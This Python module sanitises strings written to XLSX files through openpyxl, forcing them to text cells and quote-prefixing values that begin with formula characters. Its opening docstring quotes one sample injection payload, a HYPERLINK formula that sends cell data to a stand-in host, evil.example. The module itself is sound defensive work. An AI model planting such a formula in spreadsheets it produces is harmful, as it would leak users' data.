"""User text in the XLSX files we write is text, never a formula (formula / CSV injection).

openpyxl stores any string that starts with ``=`` as a live formula: a report text
``=HYPERLINK("http://evil.example/?x="&A1, "Bấm để xem")`` would become a working link that sends
the sheet's data away, and ``=1+2`` would show 3. Spreadsheet programs also read ``+``, ``-`` and
``@`` (and a leading tab or carriage return before them) as the start of a formula when a cell is
edited or the sheet is saved as CSV.

Every cell holding a string is therefore written as a string (never as a formula), and a string
that starts with one of those characters gets Excel's "quote prefix": exactly what Excel stores
when a person types an apostrophe before the text. The text is shown and printed unchanged (a task
"- Báo cáo quý I" keeps its dash, without a stray apostrophe), and stays text when edited.

Use it in every writer:
- a normal workbook: build it, then ``workbook_bytes(wb)`` (protects every cell, then saves);
- a write-only workbook (streamed rows): ``ws.append(safe_row(ws, values))`` or ``text_cell``.
"""

from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell

RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: object) -> bool:
    """Would a spreadsheet program take this text for the start of a formula?"""
    return isinstance(value, str) and value.startswith(RISKY_STARTS)


def protect(cell: Cell) -> Cell:
    """Make a cell holding a string a plain text cell; quote-prefix it when it looks like a formula."""
    value = cell.value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl set "f" for a leading "="
        if is_risky(value):
            cell.quotePrefix = True
    return cell


def text_cell(ws, value: object) -> WriteOnlyCell | object:
    """A write-only cell for ``value`` when it is a string (protected), else the value as it is."""
    if not isinstance(value, str):
        return value
    return protect(WriteOnlyCell(ws, value=value))


def safe_row(ws, values: Iterable[object]) -> list[object]:
    """A row for ``ws.append`` in a write-only sheet: strings and cells protected, others untouched."""
    return [protect(v) if isinstance(v, Cell) else text_cell(ws, v) for v in values]


def protect_workbook(wb: Workbook) -> None:
    """Protect every string cell of a (normal, not write-only) workbook."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                protect(cell)


def workbook_bytes(wb: Workbook) -> bytes:
    """The workbook as XLSX bytes, every string cell protected first (write-only ones already are)."""
    if not wb.write_only:
        protect_workbook(wb)
    out = BytesIO()
    wb.save(out)
    return out.getvalue()
